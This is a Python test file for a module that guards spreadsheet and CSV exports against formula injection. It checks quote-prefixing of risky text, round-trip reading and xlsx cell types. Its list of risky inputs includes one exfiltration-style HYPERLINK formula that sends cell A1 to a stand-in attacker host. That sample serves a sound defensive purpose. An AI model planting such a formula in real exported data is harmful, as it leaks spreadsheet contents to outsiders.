"""Text written to spreadsheets and CSV files never runs as a formula (OWASP CSV injection), and
the CSV reader undoes exactly what the writers did."""

from __future__ import annotations

from decimal import Decimal

import pytest
from openpyxl import Workbook

from realise.core.spreadsheet_text import csv_cell, from_csv, keep_as_text

RISKY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+44 1305 221000",
    "-minus first",
    "@SUM(A1)",
    "\ttab first",
    "\rcr first",
]
PLAIN = ["Care review", "", "it's fine", "'quoted", "1+1=2", "A-1", "£-5", " =spaced"]


@pytest.mark.parametrize("text", RISKY)
def test_csv_text_starting_with_a_formula_character_gets_a_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_other_csv_text_is_written_as_it_is(text):
    assert csv_cell(text) == text


def test_numbers_are_never_quoted_even_when_negative():
    assert csv_cell(Decimal("-12500.00")) == Decimal("-12500.00")
    assert csv_cell(-3) == -3
    assert csv_cell(None) is None


@pytest.mark.parametrize(
    "text", [*RISKY, *PLAIN, "'=already quoted", "''+twice", "'", "''", "=", "-", "'-"]
)
def test_every_text_reads_back_exactly_as_it_was_before_writing(text):
    assert from_csv(csv_cell(text)) == text


def test_a_quote_before_a_formula_character_is_dropped_on_reading_and_others_are_kept():
    assert from_csv("'=1+1") == "=1+1"
    assert from_csv("'-300") == "-300"
    assert from_csv("'hello") == "'hello"
    assert from_csv("'0123") == "'0123"


@pytest.mark.parametrize("text", [*RISKY, "#N/A", "#DIV/0!", "plain"])
def test_an_xlsx_text_cell_is_a_string_whatever_it_starts_with(text):
    cell = Workbook().active["A1"]
    cell.value = text
    keep_as_text(cell)
    assert (cell.data_type, cell.value) == ("s", text)


def test_xlsx_numbers_and_empty_cells_are_left_alone():
    sheet = Workbook().active
    sheet["A1"] = Decimal("-12500.00")
    sheet["A2"] = None
    for cell in (sheet["A1"], sheet["A2"]):
        keep_as_text(cell)
    assert sheet["A1"].data_type == "n"
    assert sheet["A2"].value is None


def test_xlsx_text_that_looks_like_a_formula_is_marked_to_stay_text_when_edited():
    sheet = Workbook().active
    sheet["A1"] = "=1+1"
    sheet["A2"] = "Plain"
    keep_as_text(sheet["A1"])
    keep_as_text(sheet["A2"])
    assert sheet["A1"].quotePrefix
    assert not sheet["A2"].quotePrefix
